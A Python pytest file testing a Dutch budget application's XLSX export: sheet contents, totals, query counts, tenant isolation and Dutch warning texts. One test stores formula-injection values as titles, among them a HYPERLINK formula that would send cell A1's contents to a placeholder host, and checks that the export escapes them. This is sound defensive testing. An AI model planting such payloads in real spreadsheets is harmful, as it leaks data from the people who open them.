"""GET /budgets/export: the begroting as XLSX, read back with openpyxl."""

from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from tests.budgets.factories import make_budget, make_expenditure, make_line, make_team
from tests.interventions.factories import make_intervention

pytestmark = pytest.mark.anyio


def _money(value) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


async def test_export_holds_what_was_stored(api_as, db, org, other_org):
    strategic = make_budget(db, org, stream="strategic", amount="314777.00")
    make_budget(db, org, stream="functional", amount="314594.00")
    intervention = make_intervention(db, org, "Hostmanship-training")
    line = make_line(db, strategic, title="Hostmanship voor iedereen", planned="12345.67", kind="intervention",
                  intervention_id=intervention.id)
    make_expenditure(db, line, amount="1000.01", status="committed")
    make_expenditure(db, line, amount="0.99", status="spent")
    make_line(db, strategic, title="Onvoorzien", planned="5000.00", kind="contingency")
    make_line(db, make_budget(db, other_org), title="Van een ander")
    make_team(db, org, name="Publiekszaken", fte="10.00")

    r = await api_as("viewer").get("/api/v1/budgets/export", params={"year": 2014})
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert 'filename="begroting-2014.xlsx"' in r.headers["content-disposition"]
    book = load_workbook(BytesIO(r.content))
    assert book.sheetnames == ["Overzicht", "Strategisch", "Functioneel", "Persoonlijk"]

    sheet = book["Strategisch"]
    rows = [row for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]]
    assert rows[0][:3] == ("Interventie", "Hostmanship voor iedereen", "Hostmanship-training")
    assert [_money(v) for v in rows[0][3:7]] == [Decimal("12345.67"), Decimal("1000.01"), Decimal("0.99"),
                                                 Decimal("11344.67")]
    assert rows[1][:2] == ("Onvoorzien", "Onvoorzien")
    assert rows[-1][0] == "Totaal" and _money(rows[-1][3]) == Decimal("17345.67")
    assert _money(sheet["B2"].value) == Decimal("314777.00")
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$3:$3"
    assert "Van een ander" not in [c for row in sheet.iter_rows(values_only=True) for c in row]

    summary = book["Overzicht"]
    figures = {row[0]: row for row in summary.iter_rows(min_row=4, max_row=7, values_only=True)}
    assert _money(figures["Strategisch"][1]) == Decimal("314777.00")
    assert _money(figures["Totaal"][1]) == Decimal("629371.00")
    texts = [c for row in summary.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    assert "Publiekszaken" in texts and "Waarschuwingen" in texts


async def test_export_of_an_empty_year_is_a_valid_workbook(api_as):
    r = await api_as("viewer").get("/api/v1/budgets/export", params={"year": 2030})
    book = load_workbook(BytesIO(r.content))
    assert next(row for row in book["Persoonlijk"].iter_rows(min_row=4, values_only=True) if row[0])[0] == "Totaal"


async def test_export_costs_a_fixed_number_of_queries(api_as, db, org, count_queries):
    client = api_as("viewer")
    budget = make_budget(db, org)
    make_line(db, budget, title="Eerste")
    await client.get("/api/v1/budgets/export", params={"year": 2014})
    with count_queries() as small:
        await client.get("/api/v1/budgets/export", params={"year": 2014})
    for i in range(30):
        line = make_line(db, budget, title=f"Regel {i}", kind="intervention",
                         intervention_id=make_intervention(db, org, f"Interventie {i}").id)
        make_expenditure(db, line, amount="1.00")
        make_team(db, org, name=f"Team {i}", fte="1.00")
    with count_queries() as large:
        r = await client.get("/api/v1/budgets/export", params={"year": 2014})
    rows = [row for row in load_workbook(BytesIO(r.content))["Strategisch"].iter_rows(min_row=4, values_only=True)
            if row[0]]
    assert len(rows) == 32  # 31 lines and the total
    assert large.n == small.n


async def test_user_text_is_never_a_formula_and_amounts_stay_numbers(api_as, db, org):
    strategic = make_budget(db, org, stream="strategic", amount="100.00")
    make_line(db, strategic, title='=HYPERLINK("http://x/?"&A1,"k")', planned="50.00", kind="other")
    line = make_line(db, strategic, title="@over", planned="10.00", kind="other")
    make_expenditure(db, line, amount="25.00", status="spent")  # remaining: -15.00
    make_team(db, org, name="=2+2", fte="1.00")
    book = load_workbook(BytesIO((await api_as("viewer").get("/api/v1/budgets/export",
                                                             params={"year": 2014})).content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=2+2" in texts and "'@over" in texts and "'=HYPERLINK(\"http://x/?\"&A1,\"k\")" in texts
    remaining = [row[6] for row in book["Strategisch"].iter_rows(min_row=4, values_only=True) if row[1] == "'@over"]
    assert remaining == [-15]


async def test_the_export_words_its_warnings_in_dutch(api_as, db, org):
    strategic = make_budget(db, org, stream="strategic", amount="100.00")
    line = make_line(db, strategic, title="Te duur", planned="150.00")
    make_expenditure(db, line, amount="200.00")
    r = await api_as("viewer").get("/api/v1/budgets/export", params={"year": 2014})
    texts = [c for row in load_workbook(BytesIO(r.content))["Overzicht"].iter_rows(values_only=True) for c in row
             if isinstance(c, str)]
    warnings = texts[texts.index("Waarschuwingen") + 1:]
    assert "Strategisch: er is meer gepland dan het budget." in warnings
    assert "Strategisch: op 'Te duur' is meer verplicht en besteed dan gepland." in warnings
    assert "Functioneel: er is nog geen budget voor dit jaar." in warnings
    assert "De loonsom van dit jaar is nog niet ingevoerd." in warnings
    assert not [w for w in warnings if any(word in w for word in ("The ", "There ", "budget for", "No teams"))]


def test_every_warning_the_summary_raises_has_a_dutch_text():
    import re
    from pathlib import Path

    from app.budgets import export, summary

    raised = set(re.findall(r'code="(\w+)"', Path(summary.__file__).read_text()))
    assert raised and raised <= set(export.WARNINGS_NL)
